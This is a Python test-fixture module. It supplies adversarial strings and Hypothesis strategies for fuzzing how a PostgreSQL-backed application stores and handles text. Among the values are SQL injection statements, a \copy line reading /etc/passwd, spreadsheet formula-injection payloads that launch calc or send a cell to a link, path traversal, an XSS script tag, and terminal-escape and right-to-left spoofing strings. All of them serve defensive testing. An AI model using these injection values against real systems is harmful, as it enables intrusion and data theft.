"""What somebody may give on purpose: texts that mean something to one of those who handle them."""

from __future__ import annotations

from hypothesis import strategies as st

#: The name of a table that only a text run as SQL would make.
PWNED = "public.pwned"

MEGABYTE = 1_048_576

#: By whom each is taken for something else. All of it is text that PostgreSQL can store.
TEXTS: dict[str, str] = {
    "quote": 'O\'Brien "the" `tick`',
    "statement": f"'; create table {PWNED} (); --",
    "statement in a literal": f"\\'; create table {PWNED} (); --",
    "dollars": f"$$; create table {PWNED} (); $$ $body$ $1 $2",
    "identifier": f'"; create table {PWNED} (); --',
    "format": "%s %I %L %1$s %% %(name)s {0} {name}",
    "copy": "\\copy core.users from '/etc/passwd'",
    "end of data": "\\.",
    "end of data on a line of its own": "a\n\\.\nb",
    "null of copy": "\\N",
    "backslashes": "\\\\ \\x41 \\u0041 \\",
    "tabs and line ends": "a\tb\rc\nd\r\ne",
    "escape": "\x1b[31mred\x1b[0m \x1b]52;c;cHduZWQ=\x07 \x1b[2J",
    "C1": "\u009b31m\u0090payload\u009c\u0085",
    "bell and delete": "\x07\x08\x7f\x01\x1f",
    "right to left": "\u202egnp.exe\u202c \u2067x\u2069 \u200f",
    "unseen": "ad\u200bm\u2060in\ufeff\u00ad",
    "tags": "E-1\U000e0041\U000e007f",
    "separators": "a\u2028b\u2029c\u0085d",
    "combining": "Z" + "\u0335\u0322\u0321" * 300,
    "beyond the first plane": "\U0001f469\u200d\U0001f52c \U00010348 \U0010ffff",
    "no characters": "\ufffe\uffff\ufdd0",
    "decomposed": "A\u030angstro\u0308m",
    "dotless": "\u0130I\u0131\u00df\u1e9e",
    "formula": '=HYPERLINK("http://x/?"&A1,"go")',
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in full width": "\uff1d1\uff0b1",
    "formula with an apostrophe": "'=1+1",
    "number": "-5",
    "separators of lists": ";;a;b;;",
    "commas": ',,"a",,""',
    "pairs": "=;a=;=b;a=b=c",
    "JSON": '{"a": {"b": [1, null, "\\u0022"]}}',
    "JSON with a NUL": '{"a": "\\u0000"}',
    "JSON with half a character": '{"a": "\\ud800"}',
    "JSON with keys twice": '{"a": 1, "a": 2, "": 3}',
    "JSON with numbers": '{"a": 1e400000, "b": -0, "c": 123456789012345678901234567890}',
    "JSON that is deep": '{"a":' * 3000 + "1" + "}" * 3000,
    "markup": "[bold red]x[/] [/nothing] :smile: <script>alert(1)</script>",
    "path": "../../etc/passwd",
    "option": "--help",
    "null": "null",
    "not a number": "NaN",
    "date": "infinity",
    "long number": "9" * 400,
    "zeros": "0" * 4000 + "1",
    "a kilobyte": "k" * 1024,
    "a long name": "\u00fc" * 199,
    "too much for an index": "".join(chr(0x4E00 + number % 9000) for number in range(6000)),
}

#: What PostgreSQL cannot store, in any text.
NO_TEXTS: dict[str, str] = {
    "NUL": "a\0b",
    "half a character": "a\ud800b",
    "bytes that are no UTF-8": b"a\xff\xfe\xc3b".decode(errors="surrogateescape"),
}


def long_texts() -> tuple[str, ...]:
    """As long as a value of a file may be: one that packs well, and one that does not."""
    return "x" * MEGABYTE, "".join(
        chr(0x4E00 + at * at * 7919 % 20000) for at in range(MEGABYTE // 3)
    )


#: Any text, with a leaning to what means something.
any_text = st.one_of(
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
    st.lists(st.sampled_from([*TEXTS.values()][:42]), min_size=1, max_size=3).map("".join),
    st.text("'\"$\\;=,\n\r\t{}[]%\u202e\ufeff\x1b", max_size=12),
)
